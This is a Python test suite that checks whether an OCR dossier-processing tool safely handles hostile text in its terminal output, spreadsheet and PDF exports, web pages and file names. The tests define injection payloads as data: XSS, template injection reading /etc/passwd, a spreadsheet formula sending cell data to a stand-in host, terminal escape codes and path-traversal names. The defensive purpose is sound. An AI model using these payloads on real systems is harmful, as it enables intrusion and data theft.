"""What OCR read and what files are called, shown everywhere that people look: text, and nothing but text."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from flows.output import file_name, write_batch, write_dossier
from flows.protocol import reconcile
from flows.settings import load
from flows.verdict import judged
from ledger.accounts import Accounts
from ledger.ledger import Ledger
from models.dossier import Dossier, Registration, ScanEntry
from tests.desk.web.light import HASH
from tests.flows import desk_dossier as made
from tests.ledger.ready import ready
from validators.seasons import load_season

Dosar = Callable[..., Result]

SCRIPT = "<script>alert(1)</script>"
TEMPLATE = "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'
TERMINAL = "\x1b]0;furat\x07\x1b[2J\x1b[31mPOP"
MARKUP = "[red]POP[/red][link=http://192.0.2.1]x[/link]"
TURNED = "POP \u202eNAOI"
QUOTES = "\"' onmouseover=alert(1) x='"
HIDDEN_CNP = "185071212\u200b5674"
HOSTILE = (
    SCRIPT,
    TEMPLATE,
    FORMULA,
    TERMINAL,
    MARKUP,
    TURNED,
    QUOTES,
    HIDDEN_CNP,
    "POP\0ION\r\n\tset",
    "a\u0301" * 400,
)
STEERING = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200b]")


def dossier(text: str) -> Dossier:
    document = made.card(
        surname=made.field("/surname", text, "review", y=0.15, candidates=(text, "POP")),
        address=made.field("/address", text, y=0.3),
        cnp=made.field("/cnp", made.ANA, "review", y=0.1, candidates=(text,)),
    )
    part = made.part(document)
    scans = (ScanEntry(id=made.SCAN, file=f"{text}.tif", pages=1, status="rejected", reason=f"corrupt: {text}"),)
    read = Dossier(registration=part.registration, declared=part.declared, season=made.SEASON, scans=scans,
                   documents=part.documents)  # fmt: skip
    return judged(read, load_season(made.SEASON))


@pytest.fixture(params=HOSTILE, ids=["script", "template", "formula", "terminal", "markup", "turned", "quotes",
                                     "hidden", "control", "accents"])  # fmt: skip
def text(request: pytest.FixtureRequest) -> str:
    return request.param


@pytest.fixture
def office(dosar: Dosar, text: str, tmp_path: Path) -> Dosar:
    """The command line over a ledger with this dossier."""
    with Ledger(ready(tmp_path / "home" / "ledger.db")) as ledger:
        batch = ledger.start_batch(made.SEASON, "0.1.0")
        hostile = dossier(text)
        ledger.record_scan(batch, hostile.scans[0], 1000, "118342")
        ledger.record_dossier(hostile, "f1", "0.1.0", batch)
        Accounts(ledger.engine).add("auditor", "auditor", HASH, "test")
    return dosar


def test_on_the_terminal(office: Dosar) -> None:
    for command in (("show", "118342"), ("trace", "118342", "/d1/surname"), ("trace", "118342")):
        said = office(*command)
        assert said.exception is None or isinstance(said.exception, SystemExit)
        assert not STEERING.search(said.output), command
        assert "\u0301\u0301\u0301" not in said.output
        assert "1850712125674" not in re.sub(r"\s", "", said.output)


def test_in_tables(office: Dosar, tmp_path: Path) -> None:
    for what in ("fields", "findings"):
        done = office("export", "--csv", tmp_path / "t.csv", "--what", what)
        assert done.exit_code == 0, done.output
        with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert cells
        assert not [c for c in cells if c.lstrip()[:1] in tuple("=+@\t\r") or STEERING.search(c)]
        done = office("export", "--xlsx", tmp_path / "t.xlsx", "--what", what)
        assert done.exit_code == 0, done.output
        for row in load_workbook(tmp_path / "t.xlsx").active.iter_rows():
            assert {cell.data_type for cell in row if cell.value is not None} <= {"s", "n"}


def test_in_a_letter(office: Dosar, tmp_path: Path) -> None:
    done = office("letter", "118342", "--out", tmp_path / "scrisoare.pdf")
    assert done.exit_code == 0, done.output
    data = (tmp_path / "scrisoare.pdf").read_bytes()
    for action in (b"/JavaScript", b"/JS", b"/Launch", b"/URI", b"/EmbeddedFile"):
        assert action not in data
    if shutil.which("pdftotext"):
        told = subprocess.run(["pdftotext", tmp_path / "scrisoare.pdf", "-"], capture_output=True, check=True).stdout
        assert not re.search(rb"[\x00-\x08\x0e-\x1f]", told.replace(b"\x0c", b""))


def test_on_a_page(office: Dosar, text: str) -> None:
    from desk.web.app import create_app

    app = create_app(load())
    with TestClient(app, follow_redirects=False) as browser:
        form = browser.get("/intrare").text
        token = re.search(r'name="csrf" (?:value|content)="([0-9a-f]{64})"', form)
        assert token
        browser.post("/intrare", data={"name": "auditor", "password": "parola-de-proba", "csrf": token[1]})
        pages = [browser.get(url) for url in ("/dosare", "/dosare/118342", f"/dosare/118342?season={made.SEASON}")]
    shown = "".join(page.text for page in pages if page.status_code == 200)
    assert shown
    assert "<script>alert" not in shown
    assert "' onmouseover=alert" not in shown.replace("&#39;", "").replace("&#34;", "")
    assert not re.search(r"<[^>]*onmouseover", shown)
    assert "root:x:0" not in shown
    assert "49" not in re.findall(r">([^<]*)<", shown)
    for page in pages:
        assert "script-src 'self'" in page.headers["content-security-policy"] or page.status_code != 200


def test_in_json_and_its_name(text: str, tmp_path: Path) -> None:
    """Files keep every sign as data; a name keeps only what no system minds."""
    hostile = dossier(text)
    there = write_dossier(tmp_path, hostile)
    assert json.loads(there.read_text(encoding="utf-8"))["scans"][0]["file"] == f"{text}.tif"
    write_batch(tmp_path, [hostile], reconcile([], [hostile]))
    assert json.loads((tmp_path / "batch.json").read_text(encoding="utf-8"))["dossiers"]
    named = file_name(hostile.model_copy(update={"registration": Registration(number=text)}))
    assert re.fullmatch(r"[0-9A-Za-z.-]+(_[0-9a-f]{8})?\.json", named)
    assert (tmp_path / named).resolve().parent == tmp_path.resolve()


@pytest.mark.parametrize(
    "number", ["../../etc/cron", "/etc/passwd", "..", ".", "a/b", "a\\b", "CON", "batch", "x" * 500, ""]
)
def test_no_number_leads_out_of_the_folder(number: str, tmp_path: Path) -> None:
    hostile = dossier("POP").model_copy(update={"registration": Registration(number=number)})
    assert write_dossier(tmp_path, hostile).resolve().parent == tmp_path.resolve()
    assert len(list(tmp_path.iterdir())) == 1


def test_errors_of_the_command_line(dosar: Dosar, tmp_path: Path) -> None:
    said = dosar("intake", f"{TERMINAL}.tif", "--out", tmp_path / "out")
    assert said.exit_code == 2
    assert not STEERING.search(said.output)
